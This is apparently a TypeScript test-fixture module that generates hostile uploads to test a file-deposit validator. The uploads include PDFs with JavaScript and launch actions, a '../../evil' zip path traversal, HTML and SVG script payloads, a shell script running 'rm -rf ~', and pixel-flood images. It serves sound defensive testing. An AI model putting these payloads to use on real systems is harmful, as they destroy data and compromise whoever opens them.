import { deflateRawSync, deflateSync, crc32 } from 'node:zlib'
import { makePdf, pdfStream, type PdfPlan } from './make-pdf.ts'

/** A file made to harm whoever opens it: what it is, and what it says that it is. */
export interface HostileFile {
  name: string
  contentType: string
  bytes: Buffer
}

const latin = (text: string): Buffer => Buffer.from(text, 'latin1')
const word = (value: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

const chunk = (kind: string, data: Buffer): Buffer => {
  const body = Buffer.concat([latin(kind), data])
  return Buffer.concat([word(data.length), body, word(crc32(body))])
}

/** A PNG that says how large it is; as large only where its pixels are given. */
export const makePng = (width: number, height: number, pixels = deflateSync(Buffer.alloc(0))): Buffer =>
  Buffer.concat([
    latin('\x89PNG\r\n\x1a\n'),
    chunk('IHDR', Buffer.concat([word(width), word(height), Buffer.from([8, 0, 0, 0, 0])])),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ])

const short = (value: number): Buffer => word(value).subarray(2)

/** The header of a JPEG that says how large it is, behind `before`: other segments. */
export const makeJpeg = (width: number, height: number, before: Buffer = Buffer.alloc(0)): Buffer =>
  Buffer.concat([
    latin('\xff\xd8'),
    before,
    latin('\xff\xc0\0\x0b\x08'),
    short(height),
    short(width),
    latin('\x01\x01\x11\0\xff\xd9'),
  ])

const tiffEntry = (tag: number, value: number): Buffer => Buffer.concat([short(tag), short(4), word(1), word(value)])

/** A TIFF whose last directory, of so many, says how large its picture is. */
export const makeTiff = (width: number, height: number, directories = 1): Buffer => {
  const size = 2 + 2 * 12 + 4
  const parts = Array.from({ length: directories }, (_, n) => {
    const last = n === directories - 1
    const entries = [tiffEntry(256, last ? width : 1), tiffEntry(257, last ? height : 1)]
    return Buffer.concat([short(2), ...entries, word(last ? 0 : 8 + (n + 1) * size)])
  })
  return Buffer.concat([latin('MM\0*'), word(8), ...parts])
}

const actions: readonly (readonly [string, PdfPlan])[] = [
  [
    'script at its opening',
    {
      pages: ['x'],
      catalog: '/OpenAction 50 0 R',
      objects: new Map([[50, '<< /S /JavaScript /JS (app.alert(1)) >>']]),
    },
  ],
  [
    'a program at its opening',
    { pages: ['x'], catalog: '/OpenAction 50 0 R', objects: new Map([[50, '<< /S /Launch /F (cmd.exe) >>']]) },
  ],
  [
    'script on a page',
    { pages: ['x'], page: '/AA << /O 50 0 R >>', objects: new Map([[50, '<< /S /JavaScript /JS (x) >>']]) },
  ],
  [
    'an embedded file',
    {
      pages: ['x'],
      catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 50 0 R] >> >>',
      objects: new Map<number, Buffer | string>([
        [50, '<< /Type /Filespec /F (a.exe) /EF << /F 51 0 R >> >>'],
        [51, pdfStream('/Type /EmbeddedFile', latin('MZ'))],
      ]),
    },
  ],
  [
    'a form that is sent elsewhere',
    { pages: ['x'], page: '/AA << /O << /S /SubmitForm /F (https://elsewhere.example) >> >>' },
  ],
  ['rich media', { pages: ['x'], page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' }],
  [
    'script in an object stream',
    {
      pages: ['x'],
      objects: new Map([
        [
          50,
          pdfStream(
            '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode',
            deflateSync('60 0 << /S /JavaScript /JS (x) >>'),
          ),
        ],
      ]),
    },
  ],
]

/** PDFs that would do something (security.md T16). */
export const activePdfs: readonly HostileFile[] = actions.map(([name, plan]) => ({
  name: `a PDF with ${name}`,
  contentType: 'application/pdf',
  bytes: makePdf(plan),
}))

/** A small archive with one entry of this name: `../../evil` slips out of where it is opened. */
export const makeZip = (entry: string, content: Buffer): Buffer => {
  const [name, packed] = [Buffer.from(entry), deflateRawSync(content)]
  const head = Buffer.alloc(22)
  head.writeUInt16LE(20, 0)
  head.writeUInt16LE(8, 4)
  head.writeUInt32LE(crc32(content), 10)
  head.writeUInt32LE(packed.length, 14)
  head.writeUInt32LE(content.length, 18)
  const length = Buffer.alloc(4)
  length.writeUInt16LE(name.length, 0)
  const local = Buffer.concat([latin('PK\x03\x04'), head, length, name, packed])
  const central = Buffer.concat([latin('PK\x01\x02\x14\0'), head, length, Buffer.alloc(14), name])
  const end = Buffer.alloc(18)
  end.writeUInt16LE(1, 4)
  end.writeUInt16LE(1, 6)
  end.writeUInt32LE(central.length, 8)
  end.writeUInt32LE(local.length, 12)
  return Buffer.concat([local, central, latin('PK\x05\x06'), end])
}

/** A valid little file of each kind that a deposit may have. */
export const samples: ReadonlyMap<string, Buffer> = new Map([
  ['application/pdf', makePdf({ pages: ['Bonjour'] })],
  ['image/png', makePng(1, 1, deflateSync(Buffer.from([0, 0])))],
  ['image/jpeg', makeJpeg(1, 1)],
  ['image/tiff', makeTiff(1, 1)],
  ['text/rtf', latin('{\\rtf1 Bonjour}')],
  ['text/plain', latin('Bonjour')],
])

/** The first bytes by which other programs know what is theirs. */
export const foreignMagics: ReadonlyMap<string, Buffer> = new Map([
  ['zip', makeZip('../../evil', latin('evil'))],
  ['gzip', latin('\x1f\x8b\x08\0\0\0\0\0\0\x03')],
  ['html', latin('<!DOCTYPE html><html><script>alert(1)</script></html>')],
  ['svg', latin('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['windows program', latin('MZ\x90\0')],
  ['linux program', latin('\x7fELF\x02\x01\x01\0')],
  ['mac program', latin('\xcf\xfa\xed\xfe\x07\0\0\x01')],
  ['java program', latin('\xca\xfe\xba\xbe\0\0\0\x34')],
  ['shell script', latin('#!/bin/sh\nrm -rf ~\n')],
  ['gif', latin('GIF89a\x01\0\x01\0\0\0\0;')],
  ['office file', latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1')],
  ['7z', latin('7z\xbc\xaf\x27\x1c')],
  ['rar', latin('Rar!\x1a\x07\0')],
  ['dicom', Buffer.concat([latin('MZ'), Buffer.alloc(126), latin('DICM')])],
])

/** Pictures that say they are larger than any machine's memory (security.md T22). */
export const pixelFloods: readonly HostileFile[] = [
  { name: 'a PNG', contentType: 'image/png', bytes: makePng(100_000, 100_000) },
  { name: 'a JPEG', contentType: 'image/jpeg', bytes: makeJpeg(65_000, 65_000) },
  {
    name: 'a JPEG behind other segments',
    contentType: 'image/jpeg',
    bytes: makeJpeg(65_000, 65_000, Buffer.concat([latin('\xff\xe1\x80\0'), Buffer.alloc(0x7ffe), latin('\xff')])),
  },
  { name: 'a TIFF', contentType: 'image/tiff', bytes: makeTiff(100_000, 100_000) },
  { name: 'the last picture of a TIFF', contentType: 'image/tiff', bytes: makeTiff(100_000, 100_000, 5) },
]
